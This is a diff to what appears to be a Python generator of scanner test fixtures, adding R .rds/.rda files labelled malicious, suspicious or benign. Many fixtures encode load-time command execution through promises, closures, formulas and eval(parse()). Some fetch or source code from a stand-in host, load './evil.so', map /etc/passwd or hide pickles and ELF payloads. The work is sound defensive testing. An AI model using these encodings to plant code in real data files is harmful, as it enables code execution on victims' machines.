@@ -341,10 +341,193 @@ def msgpack():
     bad("mp_is_pickle.msgpack", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")
 
 
+# --- R ---
+class R:
+    """R's serialisation, version 3, big endian."""
+    NIL, GLOBAL, UNBOUND, MISSING, EMPTY, BASE = [struct.pack(">i", n) for n in
+                                                  (254, 253, 252, 251, 242, 241)]
+
+    def __init__(self):
+        self.refs = {}
+
+    def char(self, text):
+        raw = text.encode()
+        return struct.pack(">ii", 0x40009, len(raw)) + raw
+
+    def sym(self, name):
+        if name in self.refs:
+            return struct.pack(">i", self.refs[name] << 8 | 0xff)
+        self.refs[name] = len(self.refs) + 1
+        return struct.pack(">i", 1) + self.char(name)
+
+    def text(self, *texts):
+        return struct.pack(">ii", 16, len(texts)) + b"".join(map(self.char, texts))
+
+    def real(self, *numbers):
+        return struct.pack(">ii", 14, len(numbers)) + struct.pack(">%dd" % len(numbers), *numbers)
+
+    def raw(self, data):
+        return struct.pack(">ii", 24, len(data)) + data
+
+    def list(self, *items):
+        return struct.pack(">ii", 19, len(items)) + b"".join(items)
+
+    def pairs(self, *items):
+        """items: (tag or None, thunk)"""
+        out = b""
+        for tag, item in items:
+            out += struct.pack(">i", 2 | (0x400 if tag else 0)) + (self.sym(tag) if tag else b"") + item()
+        return out + self.NIL
+
+    def call(self, head, *items):
+        """head: a name or a thunk; items: thunks"""
+        out = struct.pack(">i", 6) + (self.sym(head) if isinstance(head, str) else head())
+        return out + self.pairs(*((None, item) for item in items))
+
+    def promise(self, expression, value=None, env=None):
+        out = struct.pack(">i", 5 | (0x400 if env else 0)) + (env or b"")
+        return out + (value or self.UNBOUND) + expression()
+
+    def closure(self, body, formals=None):
+        return struct.pack(">i", 3 | 0x400) + self.GLOBAL + (formals or self.NIL) + body()
+
+    def env(self, frame):
+        self.refs["env%d" % len(self.refs)] = len(self.refs) + 1
+        return struct.pack(">ii", 4, 0) + self.EMPTY + frame() + self.NIL + self.NIL
+
+    def file(self, item, magic=b""):
+        return magic + b"X\n" + struct.pack(">iii", 3, 0x40202, 0x30500) + struct.pack(">i", 5) + b"UTF-8" + item
+
+
+def rdata():
+    run = lambda r: lambda: r.call("system", lambda: r.text("echo canary"))
+
+    def rds(name, trick, rules, make, verdict="dangerous", label="malicious", ending="rds", pack=gzip.compress,
+            loader="R"):
+        r = R()
+        magic = b"RDX3\n" if ending == "rda" else b""
+        data = pack(r.file(make(r), magic))
+        if label == "benign":
+            ok("r_%s.%s" % (name, ending), data, trick, loader)
+        else:
+            bad("r_%s.%s" % (name, ending), data, trick, rules, verdict, label, loader)
+
+    plain = lambda data: data
+    rds("ok_list", "honest", "", lambda r: r.list(r.real(1, 2), r.text("system", "echo")), label="benign")
+    rds("ok_formula", "a formula", "", lambda r: r.call("~", lambda: r.sym("y"), lambda: r.call(
+        "log", lambda: r.sym("system"))), label="benign")
+    rds("ok_evaluated", "an evaluated promise in a frame", "",
+        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(lambda: r.sym("y"), r.real(1.0))))),
+        label="benign")
+    rds("ok_waiting", "a promise in a frame", "",
+        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(lambda: r.call("+", lambda: r.real(1.0),
+                                                                             lambda: r.sym("k")),
+                                                                env=R.GLOBAL)))), label="benign")
+    rds("ok_closure", "a function", "", lambda r: r.closure(lambda: r.call("eval", lambda: r.sym("expr"))),
+        label="benign")
+    rds("ok_workspace", "a workspace", "", lambda r: r.pairs(("model", lambda: r.real(1.0)),
+                                                            ("print", lambda: r.real(2.0))),
+        label="benign", ending="rda")
+    for pack, how in ((plain, "plain"), (gzip.compress, "gzip"), (bz2.compress, "bzip2"), (lzma.compress, "xz")):
+        rds("promise_" + how, "a promise as the object, " + how, "r.promise-call",
+            lambda r: r.promise(run(r), env=R.GLOBAL), "malicious", pack=pack)
+    rds("promise_no_env", "a promise without an environment", "r.promise-call", lambda r: r.promise(run(r)),
+        "malicious")
+    rds("promise_list", "a promise in a list", "r.promise-call",
+        lambda r: r.list(r.real(1.0), r.promise(run(r), env=R.GLOBAL)), "malicious")
+    rds("promise_rda", "a promise in a workspace", "r.promise-call",
+        lambda r: r.pairs(("a", lambda: r.real(1.0)), ("b", lambda: r.promise(run(r), env=R.GLOBAL))),
+        "malicious", ending="rda")
+    rds("promise_colons", "base::system in a promise", "r.promise-call",
+        lambda r: r.promise(lambda: r.call(lambda: r.call("::", lambda: r.sym("base"), lambda: r.sym("system")),
+                                           lambda: r.text("echo canary")), env=R.GLOBAL), "malicious")
+    rds("promise_do_call", "do.call in a promise", "r.promise-call",
+        lambda r: r.promise(lambda: r.call("do.call", lambda: r.text("system"), lambda: r.call(
+            "list", lambda: r.text("echo canary"))), env=R.GLOBAL), "malicious")
+    rds("promise_get", "get() in a promise", "r.promise-call",
+        lambda r: r.promise(lambda: r.call(lambda: r.call("get", lambda: r.text("system")),
+                                           lambda: r.text("echo canary")), env=R.GLOBAL), "malicious")
+    rds("promise_eval", "eval(parse()) in a promise", "r.promise-call",
+        lambda r: r.promise(lambda: r.call("eval", lambda: r.call("parse", lambda: r.text(
+            "system('echo canary')"))), env=R.GLOBAL), "malicious")
+    rds("promise_block", "a call deep in a block", "r.promise-call",
+        lambda r: r.promise(lambda: r.call("{", lambda: r.call("<-", lambda: r.sym("x"), lambda: r.real(1.0)),
+                                           lambda: r.call("if", lambda: r.sym("TRUE"), run(r))), env=R.GLOBAL),
+        "malicious")
+    rds("promise_download", "download.file in a promise", "r.promise-call",
+        lambda r: r.promise(lambda: r.call("download.file", lambda: r.text("http://203.0.113.9/x"),
+                                           lambda: r.text("/tmp/x")), env=R.GLOBAL), "malicious")
+    rds("promise_harmless", "a promise that computes", "r.promise",
+        lambda r: r.promise(lambda: r.call("+", lambda: r.real(1.0), lambda: r.real(2.0)), env=R.GLOBAL))
+    rds("promise_attribute", "a promise in an attribute", "r.promise-call",
+        lambda r: struct.pack(">ii", 14 | 0x200, 1) + struct.pack(">d", 1.0) + r.pairs(
+            ("names", lambda: r.promise(run(r), env=R.GLOBAL))), "malicious")
+    rds("closure", "a function that runs a command", "r.command-call", lambda r: r.closure(run(r)))
+    rds("closure_system2", "a function that runs a command by system2", "r.command-call",
+        lambda r: r.list(r.real(1.0), r.closure(lambda: r.call("system2", lambda: r.text("echo"), lambda: r.text("canary")))))
+    rds("formula", "a formula that runs a command", "r.command-call",
+        lambda r: r.call("~", lambda: r.sym("y"), lambda: r.call("log", run(r))))
+    rds("expression", "an expression vector that runs a command", "r.command-call",
+        lambda r: struct.pack(">ii", 20, 1) + run(r)())
+    rds("frame", "a waiting argument that runs a command", "r.command-call",
+        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(run(r), env=R.GLOBAL)))))
+    rds("dyn_load", "a function that loads a library", "r.command-call",
+        lambda r: r.closure(lambda: r.call("dyn.load", lambda: r.text("./evil.so"))))
+    rds("lapply", "a command by lapply", "r.command-call",
+        lambda r: r.closure(lambda: r.call("lapply", lambda: r.text("echo canary"), lambda: r.sym("system"))))
+    rds("source", "a function that sources a file", "r.load-call",
+        lambda r: r.closure(lambda: r.call("source", lambda: r.text("http://203.0.113.9/x.R"))), "review",
+        "suspicious")
+    rds("finalizer", "a function that registers a finalizer", "r.load-call",
+        lambda r: r.closure(lambda: r.call("reg.finalizer", lambda: r.sym("e"), lambda: r.sym("f"))), "review",
+        "suspicious")
+    rds("url", "a function that opens an address", "r.network-call",
+        lambda r: r.closure(lambda: r.call("url", lambda: r.text("http://203.0.113.9/"))), "review", "suspicious")
+    rds("eval", "a function that evaluates text", "r.eval-text",
+        lambda r: r.closure(lambda: r.call("eval", lambda: r.call("parse", lambda: r.sym("x")))), "review",
+        "suspicious")
+    rds("first", "a workspace with .First", "r.startup-function",
+        lambda r: r.pairs((".First", lambda: r.closure(lambda: r.call("message", lambda: r.text("canary"))))),
+        ending="rda")
+    rds("mask", "a workspace with a print of its own", "r.masking-function",
+        lambda r: r.pairs(("print", lambda: r.closure(lambda: r.call("message", lambda: r.text("canary"))))),
+        "review", "suspicious", ending="rda")
+    altrep = lambda r, name, package, state: (struct.pack(">i", 238) + r.pairs(
+        (None, lambda: r.sym(name)), (None, lambda: r.sym(package)),
+        (None, lambda: struct.pack(">iii", 13, 1, 13))) + state() + R.NIL)
+    rds("ok_altrep", "a compact sequence", "", lambda r: altrep(r, "compact_intseq", "base", lambda: r.real(10, 1, 1)),
+        label="benign")
+    rds("altrep_mmap", "a vector that maps a file", "r.altrep-file",
+        lambda r: altrep(r, "mmap_integer", "simplemmap", lambda: r.list(r.text("/etc/passwd"), r.real(1.0))))
+    rds("altrep_package", "a vector of a package's class", "r.altrep-class",
+        lambda r: altrep(r, "evil", "evilpackage", lambda: r.list()), "review", "suspicious")
+    rds("persistent", "a persistent name", "r.persistent",
+        lambda r: struct.pack(">iii", 247, 0, 1) + r.char("x"), "review", "suspicious")
+    rds("length", "a vector of 2^40", "r.bad-length",
+        lambda r: struct.pack(">iiii", 14, -1, 256, 0) + b"\0" * 64, pack=plain)
+    rds("negative", "a length of -7", "r.bad-length", lambda r: struct.pack(">ii", 14, -7))
+    rds("type", "a type that does not exist", "r.bad-item", lambda r: struct.pack(">i", 99))
+    rds("reference", "a reference to nothing", "r.bad-item", lambda r: struct.pack(">i", 77 << 8 | 0xff))
+    rds("deep", "a list 100,000 deep", "r.depth", lambda r: struct.pack(">ii", 19, 1) * 100000)
+    rds("trailing", "a pickle behind the object", "r.trailing-data", lambda r: r.real(1.0) + PICKLE, pack=plain)
+    rds("raw_pickle", "a pickle in a raw vector", "pickle.call-on-load",
+        lambda r: r.list(r.raw(PICKLE)), "malicious")
+    rds("raw_elf", "a program in a raw vector", "data.hidden-payload", lambda r: r.list(r.raw(ELF)))
+    rds("cut", "cut off", "file.truncated,r.bad-length", lambda r: r.text("a", "b")[:-3], "review", "suspicious",
+        pack=plain)
+    ascii_call = ("A\n3\n262658\n197888\n5\nUTF-8\n%s6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n11\n"
+                  "echo\\040canary\n254\n")
+    bad("r_ascii_promise.rds", ascii_call % "5\n252\n", "a promise in the ASCII form", "r.promise-call", "malicious",
+        loader="R")
+    bad("r_ascii_call.rds", ascii_call % "", "a call in the ASCII form", "r.command-call", loader="R")
+    ok("r_ok_ascii.rds", "A\n3\n262658\n197888\n5\nUTF-8\n14\n3\n1\nNA\n-Inf\n", "the ASCII form", "R")
+    bad("r_is_pickle.rds", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")
+
+
 def main():
     global out_dir
     out_dir = sys.argv[1]
-    for make in (xgboost, ubjson, msgpack):
+    for make in (xgboost, ubjson, msgpack, rdata):
         make()
     with open(os.path.join(out_dir, "manifest.tsv"), "w", encoding="utf-8") as f:
         for row in rows:
